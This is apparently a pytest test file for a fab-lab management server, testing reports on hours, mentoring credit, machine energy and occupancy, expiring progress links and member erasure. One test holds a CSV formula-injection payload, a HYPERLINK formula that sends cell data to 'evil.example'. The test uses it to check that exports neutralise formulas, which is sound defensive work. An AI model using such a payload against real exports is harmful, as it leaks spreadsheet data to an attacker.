"""Reports: hours, peer-teaching credit, energy and occupancy, progress; pages with SVG and CSV."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from central import progress, reports
from central.ingest import parse_event
from central.sqlite import SqliteCentralStore
from station.model import Level, Role
from station.roster import parse_roster_csv
from tests.conftest import sample_roster_text
from tests.test_central_helpers import central_config
from tests.test_central_web import PASSWORD, login
from web.central.app import create_central_app


class Log:
    """Builds a station's events: sessions (with supervisor and energy) and grants."""

    def __init__(self, store: SqliteCentralStore, station_id: str, kind: str) -> None:
        self.store, self.station_id, self.kind, self.seq = store, station_id, kind, 0
        self.supervised: dict[tuple[str, str], str] = {}
        """The last session of each (trainee, supervisor): a machine grants in one."""

    def _event(self, type_: str, at: str, data: dict[str, Any]) -> Any:
        self.seq += 1
        raw = {
            "id": f"{self.station_id}-{self.seq}",
            "seq": self.seq,
            "type": type_,
            "at": at,
            "clock_synced": True,
            "boot_id": "b",
            "mono": float(self.seq),
            "data": data,
        }
        return parse_event(raw, 0, self.station_id)

    def session(
        self,
        member: str,
        start: str,
        end: str,
        seconds: float,
        *,
        sup: str | None = None,
        wh: float = 0.0,
    ) -> None:
        sid = f"{self.station_id}-s{self.seq}"
        if sup is not None:
            self.supervised[(member, sup)] = sid
        self.store.ingest(
            self.station_id,
            [
                self._event(
                    "session_started",
                    start,
                    {
                        "session_id": sid,
                        "member_id": member,
                        "supervisor_id": sup,
                        "kind": self.kind,
                        "machine_id": self.station_id,
                    },
                ),
                self._event(
                    "session_ended",
                    end,
                    {
                        "session_id": sid,
                        "member_id": member,
                        "end_reason": "badge_out",
                        "ended_at": end,
                        "duration_s": seconds,
                        "energy_wh": wh,
                    },
                ),
            ],
        )

    def grant(self, member: str, by: str, at: str) -> None:
        """A grant at the machine, as a station sends it: in a session the granter supervises
        (the last one logged, or one that starts now)."""
        started = []
        sid = self.supervised.get((member, by))
        if sid is None:
            sid = self.supervised[(member, by)] = f"{self.station_id}-s{self.seq}"
            started.append(
                self._event(
                    "session_started",
                    at,
                    {
                        "session_id": sid,
                        "member_id": member,
                        "supervisor_id": by,
                        "kind": self.kind,
                        "machine_id": self.station_id,
                    },
                )
            )
        self.store.ingest(
            self.station_id,
            [
                *started,
                self._event(
                    "qualification_granted",
                    at,
                    {
                        "member_id": member,
                        "kind": self.kind,
                        "level": "autonomous",
                        "previous_level": "supervised",
                        "granted_by": by,
                        "granted_at": at,
                        "session_id": sid,
                    },
                ),
            ],
        )


@pytest.fixture
def store(central_store: SqliteCentralStore) -> Iterator[SqliteCentralStore]:
    s = central_store
    s.import_roster(parse_roster_csv(sample_roster_text()))
    s.add_user("ines", PASSWORD, "educator")
    s.add_station("laser-1", kind="laser")
    s.add_station("printer-1", kind="printer3d")
    laser, printer = Log(s, "laser-1", "laser"), Log(s, "printer-1", "printer3d")
    laser.session(
        "lea", "2026-03-02T10:00:00.000Z", "2026-03-02T11:00:00.000Z", 3600, sup="moussa", wh=800
    )
    laser.session(
        "lea", "2026-03-09T10:00:00.000Z", "2026-03-09T10:30:00.000Z", 1800, sup="moussa", wh=400
    )
    laser.grant("lea", "moussa", "2026-03-09T10:30:00.000Z")
    laser.session("sofiane", "2026-04-01T14:00:00.000Z", "2026-04-01T16:00:00.000Z", 7200, wh=1500)
    printer.session(
        "amina", "2026-04-02T09:00:00.000Z", "2026-04-02T15:00:00.000Z", 21600, sup="ines", wh=600
    )
    try:
        yield s
    finally:
        s.close()


def test_hours_per_trainee_kind_and_period(store: SqliteCentralStore) -> None:
    rows = reports.hours(store, reports.Filters(period="month"))
    got = {(r["period"], r["member_id"], r["kind"]): r["hours"] for r in rows}
    assert got == {
        ("2026-03", "lea", "laser"): 1.5,
        ("2026-04", "sofiane", "laser"): 2.0,
        ("2026-04", "amina", "printer3d"): 6.0,
    }
    only = reports.hours(store, reports.Filters(kind="laser", since="2026-04-01"))
    assert [r["member_id"] for r in only] == ["sofiane"]
    until = reports.hours(store, reports.Filters(until="2026-03-02"))
    assert [r["hours"] for r in until] == [1.0]  # the end day is included


def test_peer_teaching_credit(store: SqliteCentralStore) -> None:
    rows = {r["member_id"]: r for r in reports.mentors(store, reports.Filters())}
    assert rows["moussa"]["sessions_supervised"] == 2
    assert rows["moussa"]["hours_supervised"] == 1.5
    assert rows["moussa"]["grants_given"] == 1
    assert rows["ines"]["sessions_supervised"] == 1 and rows["ines"]["grants_given"] == 0
    (grant,) = reports.grants(store, reports.Filters())
    assert (grant["member_id"], grant["granted_by"], grant["level"]) == (
        "lea",
        "moussa",
        "autonomous",
    )


def test_energy_and_occupancy(store: SqliteCentralStore) -> None:
    rows = {(r["period"], r["station_id"]): r for r in reports.machines(store, reports.Filters())}
    assert rows[("2026-03", "laser-1")]["energy_kwh"] == 1.2
    assert rows[("2026-04", "printer-1")]["occupancy_pct"] == round(100 * 6 / (30 * 24), 2)
    day = reports.machines(store, reports.Filters(period="day", kind="printer3d"))
    assert day[0]["occupancy_pct"] == 25.0


def test_progress_says_what_the_next_level_needs(store: SqliteCentralStore) -> None:
    """Hours count from the moment the level was reached: Léa, just made autonomous, has all
    20 h ahead of her (her 1.5 h under supervision were for the level before)."""
    p = progress.progress(store, "lea")
    laser = next(k for k in p["kinds"] if k["kind"] == "laser")
    assert laser["level"] == "autonomous" and laser["granted_by"] == "Moussa"
    assert laser["since"] == "2026-03-09T10:30:00.000Z"
    assert laser["hours"] == 1.5 and laser["hours_at_level"] == 0.0
    assert laser["next_level"] == "mentor" and laser["hours_needed"] == 20.0
    assert laser["mentors"] == ["Moussa"]
    assert [s["state"] for s in laser["ladder"]] == ["done", "done", "current", "next"]
    cnc = next(k for k in p["kinds"] if k["kind"] == "cnc")
    assert cnc["level"] == "supervised" and cnc["hours_needed"] == 5.0
    store.add_station("laser-2", kind="laser")
    Log(store, "laser-2", "laser").session(
        "lea", "2026-03-10T10:00:00.000Z", "2026-03-10T13:00:00.000Z", 10800
    )
    laser = next(k for k in progress.progress(store, "lea")["kinds"] if k["kind"] == "laser")
    assert laser["hours_at_level"] == 3.0 and laser["hours_needed"] == 17.0


def test_levels_set_by_educators_are_in_who_trained_whom(
    app: Flask, store: SqliteCentralStore
) -> None:
    client = app.test_client()
    token = login(client, "ines")
    client.post(
        "/admin/members/amina/qualifications",
        data={"kind": "printer3d", "level": "autonomous", "csrf_token": token},
    )
    rows = progress.who_trained(store, reports.Filters())
    by_place = {r["place"]: r for r in rows}
    assert by_place["machine"]["member_id"] == "lea"
    educator = by_place["educator"]
    assert (educator["member_id"], educator["granted_by"], educator["level"]) == (
        "amina",
        "ines",
        "autonomous",
    )
    assert educator["previous_level"] == "supervised" and educator["gain"] is True
    assert len(rows) == 2, "levels from the roster import are nobody's teaching"
    html = client.get("/reports/mentors").get_data(as_text=True)
    who = html.split("Qui a formé qui")[1]
    assert "Amina Traoré" in who and "par l&#39;équipe éducative" in who
    assert "supervisé → autonome" in who and "à la machine" in who
    grants_csv = client.get("/reports/mentors?format=csv&table=grants").get_data(as_text=True)
    assert "amina,Amina Traoré,printer3d,supervised,autonomous,ines,ines,educator" in grants_csv


def test_filters_are_checked() -> None:
    with pytest.raises(reports.BadRequest) as e:
        reports.Filters.parse({"since": "March"})
    assert e.value.field == "since"
    with pytest.raises(reports.BadRequest):
        reports.Filters.parse({"period": "fortnight"})


@pytest.fixture
def app(tmp_path: Path, store: SqliteCentralStore) -> Flask:
    app = create_central_app(store, central_config(tmp_path))
    app.config["TESTING"] = True
    return app


@pytest.mark.parametrize("name", ["hours", "mentors", "machines"])
def test_report_pages_have_svg_charts_and_csv(app: Flask, name: str) -> None:
    client = app.test_client()
    login(client, "ines")
    html = client.get(f"/reports/{name}").get_data(as_text=True)
    assert html.count("<svg") == 2 and "<title>" in html
    assert (
        "http://" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "").split("<main>")[1]
    ), "no external resource"
    r = client.get(f"/reports/{name}?format=csv")
    assert r.mimetype == "text/csv" and r.get_data(as_text=True).count("\n") >= 2
    assert client.get(f"/reports/{name}?since=nope").status_code == 400


def test_a_trainee_sees_their_own_progress_by_their_link(app: Flask) -> None:
    client = app.test_client()
    login(client, "ines")
    html = client.get("/reports/progress/lea").get_data(as_text=True)
    link = re.search(r"(/progress/[A-Za-z0-9_.-]+)</code>", html)
    assert link
    anonymous = app.test_client()
    page = anonymous.get(link.group(1)).get_data(as_text=True)
    assert "Progression de Léa" in page and "mentor" in page and "Martin" not in page
    assert anonymous.get("/progress/forged.token").status_code == 404
    assert anonymous.get("/reports/progress/lea").status_code == 302


def test_csv_exports_are_safe_to_open_in_a_spreadsheet(
    app: Flask, store: SqliteCentralStore
) -> None:
    """A name that is a formula comes out as text in the report and roster exports."""
    import csv
    import io

    formula = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'
    store.upsert_member("lea", formula, Role.TRAINEE)
    client = app.test_client()
    login(client, "ines")
    for url in ("/reports/hours?format=csv", "/admin/roster/export.csv"):
        rows = list(csv.reader(io.StringIO(client.get(url).get_data(as_text=True))))
        cells = [c for row in rows for c in row]
        assert "'" + formula in cells, url
        assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells), url
    assert reports.to_csv([{"hours": -1.5, "note": "-1+2"}]) == "hours,note\n-1.5,'-1+2\n"


@pytest.mark.parametrize(
    ("name", "table"),
    [("hours", None), ("mentors", None), ("mentors", "grants"), ("machines", None)],
)
def test_an_empty_csv_export_still_has_its_header(app: Flask, name: str, table: str | None) -> None:
    """No row in the range: the header alone, the same as a full export's."""
    client = app.test_client()
    login(client, "ines")
    extra = f"&table={table}" if table else ""
    full = client.get(f"/reports/{name}?format=csv{extra}").get_data(as_text=True)
    empty = client.get(f"/reports/{name}?format=csv&since=2030-01-01{extra}")
    assert empty.status_code == 200
    assert empty.get_data(as_text=True) == full.splitlines()[0] + "\n"


@pytest.mark.parametrize(
    ("query", "says"),
    [
        ("since=nope", "La date « Du » doit être une date"),
        ("until=31/03/2026", "La date « au » doit être une date"),
        ("period=fortnight", "La période doit être day, month ou year"),
        ("kind=la%20ser", "La machine doit être un type de machine"),
    ],
)
def test_a_bad_report_filter_gets_a_page(app: Flask, query: str, says: str) -> None:
    client = app.test_client()
    login(client, "ines")
    r = client.get(f"/reports/hours?{query}")
    assert r.status_code == 400 and r.mimetype == "text/html"
    html = r.get_data(as_text=True)
    assert says in html and 'href="/reports/hours"' in html


def _personal_link(client: Any, member_id: str = "lea") -> str:
    html = client.get(f"/reports/progress/{member_id}").get_data(as_text=True)
    link = re.search(r"(/progress/[A-Za-z0-9_.-]+)</code>", html)
    assert link
    return link.group(1)


def test_a_personal_link_expires(app: Flask) -> None:
    """After ``[site] progress_link_days`` the link shows a page in French saying what to do."""
    now = [1_780_000_000.0]
    app.extensions["clock_now"] = lambda: now[0]
    client = app.test_client()
    login(client, "ines")
    page = client.get("/reports/progress/lea").get_data(as_text=True)
    assert "Ce lien marche jusqu&#39;au" in page
    link = _personal_link(client)
    anonymous = app.test_client()
    now[0] += 89 * 86400
    assert anonymous.get(link).status_code == 200
    now[0] += 2 * 86400
    r = anonymous.get(link)
    assert r.status_code == 410 and r.mimetype == "text/html"
    assert "Ce lien est trop ancien" in r.get_data(as_text=True)
    assert "Léa" not in r.get_data(as_text=True)


def test_an_educator_revokes_the_personal_links(app: Flask, store: SqliteCentralStore) -> None:
    client = app.test_client()
    token = login(client, "ines")
    old = _personal_link(client)
    anonymous = app.test_client()
    assert anonymous.get(old).status_code == 200
    r = client.post("/reports/progress/lea/revoke", data={"csrf_token": token})
    assert r.status_code == 302
    page = client.get("/reports/progress/lea").get_data(as_text=True)
    assert "Les anciens liens ne marchent plus" in page
    gone = anonymous.get(old)
    assert gone.status_code == 410 and "Ce lien a été coupé" in gone.get_data(as_text=True)
    new = _personal_link(client)
    assert new != old and anonymous.get(new).status_code == 200
    other = anonymous.get("/progress/forged.token")
    assert other.status_code == 404 and "pas un lien de progression" in other.get_data(as_text=True)
    assert app.test_client().post("/reports/progress/lea/revoke").status_code in (400, 401)


def test_an_erased_member_s_link_shows_nothing(app: Flask, store: SqliteCentralStore) -> None:
    from central.privacy import erase_member

    client = app.test_client()
    login(client, "ines")
    link = _personal_link(client)
    erase_member(store, "lea")
    r = app.test_client().get(link)
    assert r.status_code in (404, 410) and "Léa" not in r.get_data(as_text=True)


def test_erasure_takes_an_educator_set_level_s_granter_out_of_the_history(
    store: SqliteCentralStore,
) -> None:
    """A mentor erased from the roster is no longer named as the one who set a level."""
    from central.privacy import erase_member

    store.set_qualification("amina", "printer3d", Level.AUTONOMOUS, by="moussa")
    erase_member(store, "moussa")
    held = store.db.conn.execute(
        "SELECT COUNT(*) FROM qualification_history WHERE granted_by = 'moussa'"
    ).fetchone()[0]
    assert held == 0
    assert all(r["granted_by"] != "moussa" for r in progress.who_trained(store, reports.Filters()))
